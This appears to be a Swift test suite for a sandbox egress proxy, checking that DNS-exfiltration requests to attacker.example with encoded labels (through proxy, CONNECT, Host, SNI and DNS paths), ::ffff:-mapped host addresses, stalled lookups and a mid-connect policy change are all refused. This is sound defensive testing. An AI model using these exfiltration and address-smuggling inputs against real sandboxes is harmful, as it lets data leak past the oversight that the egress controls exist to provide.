import Foundation
import NIOCore
import NIOEmbedded
import NIOPosix
import Testing
@testable import SandboxCore
@testable import SandboxEgress

#if canImport(Glibc)
import Glibc
#endif

/// Attacks from sandbox code on the real proxy stack (explicit proxy, transparent HTTP and TLS,
/// the resolver) served on loopback.
@Suite("Egress attacks", .serialized)
struct EgressAttackTests {
    @Test("DNS exfiltration: a name no rule allows by name is never looked up, by any path")
    func noLookupForUnallowedNames() async throws {
        let log = LookupLog()
        let sink = CollectingSink()
        // A wildcard and an address rule: before, any name was looked up to see whether the CIDR allows it.
        let session = try makeSession(.init(mode: .allowlist, allow: ["*.allowed.test", "203.0.113.0/24"]), sink: sink,
                                      lookup: log.logging())
        let proxy = try await LoopbackProxy(session: session)
        let absolute = proxy.viaProxy("GET http://c2VjcmV0MQ.attacker.example/ HTTP/1.1\r\nHost: c2VjcmV0MQ.attacker.example\r\n\r\n")
        let connect = proxy.viaProxy("CONNECT c2VjcmV0Mg.attacker.example:443 HTTP/1.1\r\nHost: c2VjcmV0Mg.attacker.example:443\r\n\r\n")
        let host = proxy.viaTransparent(Array("GET / HTTP/1.1\r\nHost: c2VjcmV0Mw.attacker.example\r\n\r\n".utf8))
        let sni = proxy.viaTransparent(LoopbackProxy.clientHello(serverName: "c2VjcmV0NA.attacker.example"))
        let dns = DNSResponder(session: session, answer: IPAddress(v4: 127, 0, 0, 2))
        _ = dns.respond(to: DNSResponderTests().query("c2VjcmV0NQ.attacker.example"))
        await proxy.stop()

        #expect(log.names.isEmpty, "looked up: \(log.names)")
        for reply in [absolute, connect, host] {
            #expect(reply.hasPrefix("HTTP/1.1 403"), "\(reply)")
            #expect(reply.contains("--resolve-for-cidr-rules"), "the reason names the operator's opt-in: \(reply)")
        }
        #expect(sni.isEmpty, "a denied SNI name is closed: \(sni)")
        let denied = sink.events.filter { $0.kind == .egressDeny }.compactMap { e -> String? in
            if case .string(let h) = e.detail["host"] { return h } else { return nil }
        }
        #expect(Set(denied.map { $0.lowercased() }) == Set(["MQ", "Mg", "Mw", "NA", "NQ"].map { "c2VjcmV0\($0).attacker.example".lowercased() }))
    }

    @Test("a name allowed by name is looked up; with --resolve-for-cidr-rules so is a name only a CIDR rule may allow")
    func lookupsThatMayHappen() async throws {
        let log = LookupLog()
        let named = try makeSession(.init(mode: .allowlist, allow: ["localhost"]), lookup: log.logging())
        let decision = try await named.decide(host: "localhost", port: 80, on: named.resolverLoop).get()
        #expect(log.names == ["localhost"])
        // It resolved (to loopback, which stays blocked).
        #expect(!decision.isAllowed)
        if case .deny(let reason) = decision { #expect(reason.contains("always-blocked")) }

        let optedIn = try makeSession(.init(mode: .allowlist, allow: ["127.0.0.0/8"]), resolveForAddressRules: true, lookup: log.logging())
        _ = try await optedIn.decide(host: "localhost", port: 80, on: optedIn.resolverLoop).get()
        #expect(log.names == ["localhost", "localhost"])

        let notOptedIn = try makeSession(.init(mode: .allowlist, allow: ["127.0.0.0/8"]), lookup: log.logging())
        _ = try await notOptedIn.decide(host: "localhost", port: 80, on: notOptedIn.resolverLoop).get()
        #expect(log.names == ["localhost", "localhost"])
    }

    @Test("the host's own interface addresses are refused, as literals and in their ::ffff: form, even in open mode")
    func hostAddressesAreBlocked() async throws {
        let own = try #require(HostAddresses.read().keys.filter { $0.isIPv4 && $0.bytes[0] != 127 }.sorted { $0.description < $1.description }.first,
                               "this host has an IPv4 interface address besides loopback")
        let listener = try LoopbackUpstream(everyAddress: true)
        defer { listener.stop() }
        let session = try makeSession(.init(mode: .open))
        let proxy = try await LoopbackProxy(session: session)
        let plain = proxy.viaProxy("GET http://\(own):\(listener.port)/ HTTP/1.1\r\nHost: \(own)\r\n\r\n")
        let mapped = proxy.viaProxy("CONNECT [::ffff:\(own)]:\(listener.port) HTTP/1.1\r\n\r\n")
        let mappedHex = proxy.viaProxy("GET http://[::ffff:\(String(format: "%02x%02x:%02x%02x", own.bytes[0], own.bytes[1], own.bytes[2], own.bytes[3]))]:\(listener.port)/ HTTP/1.1\r\nHost: x\r\n\r\n")
        await proxy.stop()
        for reply in [plain, mapped, mappedHex] {
            #expect(reply.hasPrefix("HTTP/1.1 403"), "\(reply)")
            #expect(reply.contains("an address of this host"), "\(reply)")
        }
        #expect(listener.connections == 0, "no connection reached the host's service")
    }

    @Test("an operator-mapped name may still point at the host's own address")
    func operatorMapReachesHostAddress() throws {
        let own = try #require(HostAddresses.read().keys.first { $0.isIPv4 && $0.bytes[0] != 127 })
        let policy = try EgressPolicy(network: .init(mode: .allowlist, allow: ["svc.test"]), profile: "p", operatorMap: ["svc.test": own])
        #expect(policy.decide(host: "svc.test", port: 80, resolved: []) == .allow(address: own, rule: "svc.test"))
        #expect(!policy.decide(host: own.description, port: 80, resolved: []).isAllowed)
    }

    @Test("lookups that never answer stall only their own sandbox: it gets a few, the rest are refused at once, others resolve")
    func stalledLookupsStayInTheirSandbox() async throws {
        let gate = DispatchSemaphore(value: 0)
        let log = LookupLog()
        let stalling = log.logging { name in
            if name.hasSuffix(".stall.test") { gate.wait(); return [] }
            return HostResolver.system(name)
        }
        let host = LookupSlots(limit: 256)
        let attacker = try makeSession(.init(mode: .allowlist, allow: ["*.stall.test"]), lookup: stalling, sandboxId: "sbx-attacker0001",
                                       hostSlots: host, timeout: .seconds(30))
        let victim = try makeSession(.init(mode: .allowlist, allow: ["localhost"]), lookup: stalling, sandboxId: "sbx-victim000001",
                                     hostSlots: host, timeout: .seconds(30))
        defer { for _ in 0..<64 { gate.signal() } }
        let loop = attacker.resolverLoop
        let pending = (0..<60).map { attacker.decide(host: "n\($0).stall.test", port: 443, on: loop) }
        // The attacker's lookups beyond its share are refused without waiting.
        var refused = 0
        for f in pending.dropFirst(4) {
            if case .deny(let reason) = try await f.get(), reason.contains("DNS lookups of this sandbox are still running") { refused += 1 }
        }
        #expect(refused == 56)
        // The victim's lookup runs now (before: it queued behind the stalled ones until its timeout).
        let decision = try await victim.decide(host: "localhost", port: 80, on: loop).get()
        guard case .deny(let reason) = decision else { Issue.record("localhost is loopback: \(decision)"); return }
        #expect(reason.contains("always-blocked"), "it resolved: \(reason)")
        #expect(attacker.resolver.sandboxSlots.inUse == 4)
        for _ in 0..<4 { gate.signal() }
        for f in pending.prefix(4) { #expect(!(try await f.get()).isAllowed) }
        #expect(log.names.filter { $0.hasSuffix(".stall.test") }.count == 4, "only the attacker's share was looked up")
        #expect(attacker.resolver.sandboxSlots.inUse == 0)
    }

    @Test("a connection decided before a policy change and established after it is refused, not kept")
    func policyChangeDuringConnect() async throws {
        let upstream = try LoopbackUpstream()
        defer { upstream.stop() }
        let sink = CollectingSink()
        let session = try makeSession(.init(mode: .allowlist, allow: ["up.test"]), sink: sink, map: ["up.test": IPAddress(v4: 127, 0, 0, 1)])
        let loop = MultiThreadedEventLoopGroup.singleton.next()
        guard case .allow(let address, let rule) = try await session.decide(host: "up.test", port: upstream.port, on: loop).get() else {
            Issue.record("up.test is allowed"); return
        }
        // The PATCH lands while the connection is being made: nothing is registered to close yet.
        #expect(try session.update(network: .deny, phase: nil) == 0)
        let flow = EgressFlow(session: session, host: "up.test", port: upstream.port, address: address, rule: rule, via: "connect")
        let up = try await flow.connect(on: loop, tls: nil) { _ in }.get()
        let client = EmbeddedChannel()
        let kept = try await loop.submit { flow.track(client: client, upstream: up) }.get()
        #expect(!kept)
        // Closed on its event loop as the refusal happened (the same loop ran track).
        let open = try await loop.submit { up.isActive }.get()
        #expect(!open, "the refused upstream connection is closed")
        try? await up.close()
        #expect(sink.events.contains { $0.kind == .egressDeny && $0.detail["reason"] == .string(flow.refusal) })
        #expect(!sink.events.contains { $0.kind == .egressAllow })
    }
}

extension EgressSession {
    /// An event loop for deciding outside a channel.
    var resolverLoop: EventLoop { MultiThreadedEventLoopGroup.singleton.next() }
}
